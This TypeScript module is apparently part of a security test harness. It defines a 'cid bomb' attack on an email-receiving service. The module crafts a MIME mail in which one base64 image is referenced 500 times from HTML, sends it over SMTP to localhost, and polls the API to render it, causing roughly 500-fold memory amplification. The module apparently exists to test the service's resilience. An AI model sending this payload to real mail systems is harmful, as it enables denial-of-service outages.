import { once } from 'node:events'
import { connect } from 'node:net'
import type { Attack } from './attack.ts'
import { call, repeat } from './requests.ts'

/** A picture of a megabyte, and five hundred places that show it: once 517 MB of html for 1.4 MB of mail. */
const MAIL = [
  'From: a@attacker.dev',
  'To: b@attacker.dev',
  'Subject: x',
  'MIME-Version: 1.0',
  'Content-Type: multipart/related; boundary=x',
  '',
  '--x',
  'Content-Type: text/html',
  '',
  '<img src="cid:a">\r\n'.repeat(500),
  '--x',
  'Content-Type: image/png',
  'Content-ID: <a>',
  'Content-Transfer-Encoding: base64',
  '',
  `${'QUJD'.repeat(19)}\r\n`.repeat(18_000),
  '--x--',
  '.',
  '',
].join('\r\n')

/** Needs a service that takes mail for anybody, which one in inbox mode does. */
export const attack: Attack = {
  name: 'cid bomb',
  async run(target, signal) {
    await deliver(target.smtpPort).catch(() => {})
    await repeat(signal, 4, async () => {
      const { data } = await call(target, 'GET', '/emails/receiving?limit=1', null, signal)
      const [newest] = (data ?? []) as { id: string }[]
      if (newest) await call(target, 'GET', `/emails/receiving/${newest.id}`, null, signal)
      else await new Promise((resolve) => setTimeout(resolve, 100))
    })
  },
}

async function deliver(port: number) {
  const socket = connect(port, '127.0.0.1')
  for (const line of ['', 'EHLO x', 'MAIL FROM:<a@attacker.dev>', 'RCPT TO:<b@attacker.dev>', 'DATA', MAIL, 'QUIT']) {
    if (line !== '') socket.write(line === MAIL ? line : `${line}\r\n`)
    await once(socket, 'data')
  }
  socket.destroy()
}
